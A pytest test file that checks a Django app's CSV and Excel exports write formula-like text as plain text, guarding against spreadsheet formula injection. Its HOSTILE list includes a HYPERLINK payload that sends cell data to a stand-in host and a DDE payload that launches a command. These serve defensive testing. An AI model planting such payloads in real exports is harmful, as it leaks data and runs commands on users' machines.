"""Exports are safe to open: text that starts like a formula is written as text (issue 12, part 5)."""

import csv
import io
import zipfile

import pytest
from openpyxl import load_workbook

from campaign import services
from campaign.choices import UnitKind
from campaign.exporting import SafeCSV, SafeXLSX, csv_text, is_risky, workbook_bytes

pytestmark = pytest.mark.django_db


# XML reads a carriage return back as a line feed: the cell still starts with a control character.
def _read(text: str) -> str:
    return text.replace("\r", "\n")


HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A2,"点")',
    "=cmd|' /C calc'!A0",
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
]


def test_what_counts_as_risky():
    assert all(is_risky(text) for text in HOSTILE)
    assert not any(is_risky(value) for value in ["甲街道", "1=1", "", None, 3, -2.5])
    assert csv_text("=1+1") == "'=1+1" and csv_text("甲街道") == "甲街道" and csv_text(-3) == -3


def test_a_workbook_keeps_risky_text_as_text_and_numbers_as_numbers():
    data = workbook_bytes(["名称", "扣分"], [[text, -1.5] for text in HOSTILE])
    sheet = load_workbook(io.BytesIO(data)).active
    rows = list(sheet.iter_rows(min_row=2))
    assert [row[0].value for row in rows] == [_read(text) for text in HOSTILE]
    assert {(row[0].data_type, row[0].quotePrefix) for row in rows} == {("s", True)}
    assert {(row[1].value, row[1].data_type) for row in rows} == {(-1.5, "n")}
    # No cell of the file is a formula: the sheet's XML has no <f> element.
    xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml


def test_the_unit_list_export_writes_a_hostile_name_as_text(web, city, office):
    services.unit_create(name="=1+1", code="EVIL-1", kind=UnitKind.COMMUNITY, parent=city.street_jia)
    services.unit_create(name=HOSTILE[0], code="EVIL-2", kind=UnitKind.COMMUNITY, parent=city.street_jia)
    response = web(office).get("/units/?export=xlsx")
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = {row[0].value: row[0] for row in sheet.iter_rows(min_row=2)}
    assert cells["=1+1"].data_type == "s" and cells["=1+1"].quotePrefix
    assert cells[HOSTILE[0]].data_type == "s"


def test_the_admin_export_formats_write_text_as_text(city):
    import tablib

    dataset = tablib.Dataset(headers=["名称", "编码"])
    for text in HOSTILE:
        dataset.append([text, "X"])
    sheet = load_workbook(io.BytesIO(SafeXLSX().export_data(dataset))).active
    assert [row[0].value for row in sheet.iter_rows(min_row=2)] == [_read(text) for text in HOSTILE]
    assert {row[0].data_type for row in sheet.iter_rows(min_row=2)} == {"s"}
    rows = list(csv.reader(io.StringIO(SafeCSV().export_data(dataset))))
    assert [row[0] for row in rows[1:]] == ["'" + text for text in HOSTILE]


def test_the_admin_offers_only_the_safe_formats():
    from django.contrib import admin

    from campaign.models import Unit
    from indicators.models import Indicator

    for model in (Unit, Indicator):
        assert {type(f()).__name__ for f in admin.site._registry[model].get_export_formats()} == {"SafeXLSX", "SafeCSV"}


def test_the_indicator_export_writes_a_hostile_requirement_as_text(campaign):
    """The 任务分解表 export (and so the task lists, the bulletin workbook and the survey template,
    which write through the same `append_row`) keeps a formula-like text as text."""
    from indicators import services as indicator_services
    from indicators.importing import indicators_export

    system = indicator_services.indicator_system_create(campaign=campaign, name="测评体系", kind="national", year=2026)
    top = indicator_services.indicator_create(system=system, level=1, title="思想道德", code="Ⅰ-1")
    content = indicator_services.indicator_create(system=system, level=2, title="公益广告", code="Ⅱ-1", parent=top)
    indicator_services.indicator_create(
        system=system, level=3, title="标准", code="1)", parent=content, requirements="=1+1"
    )
    sheet = load_workbook(io.BytesIO(indicators_export(system=system))).active
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row if cell.value == "=1+1"]
    assert cells and all(cell.data_type == "s" and cell.quotePrefix for cell in cells)


def test_the_points_export_writes_a_hostile_point_name_as_text(web, city, office):
    from inspections import services as inspection_services
    from inspections.models import PointType

    point_type = PointType.objects.create(name="农贸市场", order=1)
    inspection_services.point_create(name=HOSTILE[0], point_type=point_type, unit=city.street_jia)
    sheet = load_workbook(io.BytesIO(web(office).get("/inspections/points/?export=xlsx").content)).active
    cells = [row[0] for row in sheet.iter_rows(min_row=2) if row[0].value == HOSTILE[0]]
    assert cells and cells[0].data_type == "s" and cells[0].quotePrefix
